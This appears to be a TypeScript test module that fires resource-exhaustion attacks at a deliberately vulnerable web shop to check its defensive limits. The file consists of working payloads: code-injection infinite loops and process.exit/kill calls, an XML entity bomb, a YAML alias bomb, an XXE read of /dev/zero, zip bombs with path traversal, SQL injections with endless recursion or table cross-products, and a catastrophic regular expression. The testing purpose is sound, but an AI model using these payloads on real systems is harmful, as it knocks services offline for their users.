import { zipSync } from 'fflate';
import { attemptsTo } from './attempt.ts';

/** Taking time, memory, disk space and handles until nobody else is served. Wall 3 does not stop this: a supervisor restarts the shop. */

const names = (count: number) => Array.from({ length: count }, (_, index) => index);

const xmlBomb = `<!DOCTYPE x [<!ENTITY a0 "lol">${names(9)
  .map((index) => `<!ENTITY a${index + 1} "${`&a${index};`.repeat(10)}">`)
  .join('')}]><x>&a9;</x>`;

const yamlBomb = names(9)
  .map((index) => `a${index}: &a${index} [${Array(10).fill(index === 0 ? 'lol' : `*a${index - 1}`)}]`)
  .join('\n');

/** 20 MiB of zeros, which compress to fit into an upload. Each name is unpacked to a file of its own. */
const heavyArchive = (name: string) => Buffer.from(zipSync({ [name]: Buffer.alloc(20 * 1024 * 1024) }, { level: 9 }));

export const resourceAttempts = attemptsTo('exhaust the shop', [
  {
    hole: '$where condition',
    title: 'an endless loop in a product number',
    wall: 'limits',
    wall3: false,
    logged: 'code',
    attack: async ({ reviews }) => [await reviews('(()=>{for(;;);})()')],
  },
  {
    hole: '$where condition',
    title: 'growing lists in a product number',
    wall: 'limits',
    wall3: false,
    logged: 'code',
    attack: async ({ reviews }) => [await reviews('(()=>{for(a=[];;)a.push(Array(1e5))})()')],
  },
  {
    hole: 'order expression',
    title: 'the end of the process',
    wall: 'limits',
    wall3: false,
    logged: 'code',
    attack: async ({ orderLines }) => [await orderLines('process.exit()')],
  },
  {
    hole: 'order expression',
    title: 'a string that doubles forever',
    wall: 'limits',
    wall3: false,
    logged: 'code',
    attack: async ({ orderLines }) => [
      await orderLines(
        `(() => { const kept = []; let s = 'x'; for (;;) { s = s.length > 1e6 ? 'x' : s + s; kept.push(s + kept.length) } })()`,
      ),
    ],
  },
  {
    hole: 'user name (Pug)',
    title: 'an endless loop in an expression',
    wall: 'limits',
    wall3: false,
    logged: 'code',
    attack: async ({ userName }) => [await userName('(() => { for (;;); })()')],
  },
  {
    hole: 'user name (Pug)',
    title: 'files that are opened and never closed',
    wall: 'limits',
    wall3: false,
    logged: 'code',
    attack: async ({ userName }) => [
      await userName(`(() => { const fs = require('fs'); for (;;) fs.openSync(process.execPath, 'r') })()`),
    ],
  },
  {
    hole: 'user name (Pug)',
    title: 'the end of the process, in the template',
    wall: 'limits',
    wall3: false,
    logged: 'code',
    attack: async ({ profileOf }) => [await profileOf('a\n- global.process.kill(global.process.pid, 9)')],
  },
  {
    hole: 'chatbot command',
    title: 'an endless loop in a query',
    wall: 'limits',
    wall3: false,
    logged: 'code',
    attack: async ({ chat }) => [await chat('Eve', '"); for (;;); ("')],
  },
  {
    hole: 'XML upload',
    title: 'nested entities',
    wall: 'limits',
    wall3: false,
    logged: 'document',
    attack: async ({ xml }) => [await xml(xmlBomb)],
  },
  {
    hole: 'XML upload',
    title: 'an endless device',
    wall: 'limits',
    wall3: false,
    logged: 'document',
    attack: async ({ entity }) => [await entity('file:///dev/zero')],
  },
  {
    hole: 'YAML upload',
    title: 'nested aliases',
    wall: 'limits',
    wall3: false,
    logged: 'document',
    attack: async ({ yaml }) => [await yaml(yamlBomb)],
  },
  {
    hole: 'archive upload',
    title: 'archives that unpack to more than the disk quota',
    wall: 'limits',
    wall3: false,
    logged: 'archive',
    attack: async ({ archive }) => {
      const answers: string[] = [];
      for (const index of names(4)) {
        answers.push(await archive(heavyArchive(`../../ftp/heavy${index}.md`)));
      }
      return answers;
    },
  },
  {
    hole: 'SQL injection',
    title: 'an endless recursion',
    wall: 'limits',
    wall3: false,
    logged: 'database',
    attack: async ({ loginAs }) => [
      await loginAs(
        `' OR (WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n) > 0--`,
      ),
    ],
  },
  {
    hole: 'SQL injection',
    title: 'the product of many tables in the search',
    wall: 'limits',
    wall3: false,
    logged: 'database',
    attack: async ({ search }) => [
      await search(
        `x')) UNION SELECT count(*),2,3,4,5,6,7,8,9 FROM Products a,Products b,Products c,Products d,Users e,Users f,Users g--`,
      ),
    ],
  },
  {
    hole: 'Mongo selector',
    title: 'a regular expression',
    wall: 'limits',
    wall3: false,
    logged: 'code',
    attack: async ({ selectReview }) => [await selectReview({ $regex: '^(((\\w*)*)*)*!$' })],
  },
]);
